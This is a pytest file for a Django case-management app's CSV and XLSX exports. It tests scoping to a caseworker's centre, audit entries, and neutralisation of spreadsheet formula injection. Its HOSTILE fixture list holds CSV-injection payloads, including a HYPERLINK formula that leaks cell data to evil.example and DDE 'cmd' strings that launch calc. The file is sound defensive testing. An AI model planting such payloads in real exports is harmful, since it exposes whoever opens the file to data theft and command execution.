"""List exports: scope, audit, streaming CSV, XLSX without a single formula cell for hostile input."""

import csv
import io

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from casework.models import AuditEntry
from casework.spreadsheet import neutralise_cell
from reports import services
from tests import factories
from tests.reports.conftest import job_path, run_job

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=cmd|"/c calc"!A1',
]


def hostile_people(centre):
    return [
        factories.BeneficiaryFactory(
            centre=centre, first_name_latin=value, family_name_latin=value, first_name_ar=value, city=value
        )
        for value in HOSTILE
    ]


def test_neutraliser():
    assert [neutralise_cell(v)[:1] for v in HOSTILE] == ["'"] * len(HOSTILE)
    assert neutralise_cell("Fès") == "Fès" and neutralise_cell("") == ""


def test_csv_streams_only_the_caseworkers_centre_and_is_audited(login, people):
    mine = factories.BeneficiaryFactory(centre=people.caseworker.centre)
    neighbour = factories.BeneficiaryFactory(centre=people.neighbour.centre)
    far = factories.BeneficiaryFactory(centre=factories.centre("CAS"))
    response = login(people.caseworker).post(reverse("reports:exports"), {"list": "people", "format": "csv"})
    assert response.status_code == 200 and isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    numbers = {row[0] for row in rows[1:]}
    assert numbers == {mine.file_number}
    assert neighbour.file_number not in text and far.file_number not in text
    entry = AuditEntry.objects.get(action="export", object_type="reports.export")
    assert entry.actor == people.caseworker and entry.changes["rows"] == 1 and entry.changes["format"] == "csv"


def test_csv_neutralises_hostile_cells(login, people):
    hostile_people(people.caseworker.centre)
    response = login(people.caseworker).get(reverse("reports:export_csv") + "?list=people")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode().lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == len(HOSTILE) + 1
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells


def test_xlsx_job_has_no_formula_cell_and_only_the_centres_rows(people):
    hostile_people(people.caseworker.centre)
    hostile_people(factories.centre("CAS"))
    job = services.report_request(actor=people.caseworker, kind="export_xlsx", data={"list": "people"}, language="en")
    job = run_job(job)
    assert job.status == "done", job.error
    workbook = load_workbook(job_path(job))
    sheet = workbook.active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(HOSTILE)
    assert all(row[1].value == people.caseworker.centre.code for row in rows)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            assert not (isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r"))
    entry = AuditEntry.objects.get(action="export", object_id=str(job.pk))
    assert entry.changes["rows"] == len(HOSTILE)


@pytest.mark.parametrize("listing", ["people", "followups", "grants", "events"])
def test_every_list_exports_for_a_supervisor(login, people, listing):
    response = login(people.supervisor).get(reverse("reports:export_csv") + f"?list={listing}")
    assert response.status_code == 200
    header = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode().lstrip("\ufeff"))))
    assert len(header) >= 5


def test_grants_and_events_exports_follow_scope(login, people):
    from decimal import Decimal

    from grants.services import event_assign_grants
    from tests.grants import factories as gf

    envelope = gf.envelope(Decimal("100000.00"))
    grant = gf.approved(proposer=people.caseworker, supervisor=people.supervisor, envelope_=envelope)
    event = gf.event(administrator=people.administrator, envelope_=envelope)
    event_assign_grants(actor=people.administrator, event=event, grants=[grant])

    def export(user, listing):
        response = login(user).get(reverse("reports:export_csv") + f"?list={listing}")
        return b"".join(response.streaming_content).decode()

    assert grant.beneficiary.file_number in export(people.caseworker, "grants")
    assert grant.beneficiary.file_number not in export(people.outsider, "grants")
    assert event.city in export(people.supervisor, "events")
    assert len(export(people.outsider, "events").strip().splitlines()) == 1  # the header only


def test_export_page_prepares_xlsx_as_a_job(login, people, monkeypatch):
    monkeypatch.setattr("reports.services.enqueue", lambda job_id: None)
    client = login(people.caseworker)
    assert client.get(reverse("reports:exports")).status_code == 200
    response = client.post(reverse("reports:exports"), {"list": "grants", "format": "xlsx"})
    from reports.models import ReportJob

    job = ReportJob.objects.get()
    assert response.status_code == 302 and job.kind == "export_xlsx" and job.parameters == {"list": "grants"}


def test_export_refuses_another_centre_as_a_filter(login, people):
    response = login(people.caseworker).get(
        reverse("reports:export_csv") + f"?list=people&centre={factories.centre('CAS').pk}"
    )
    assert response.status_code == 400
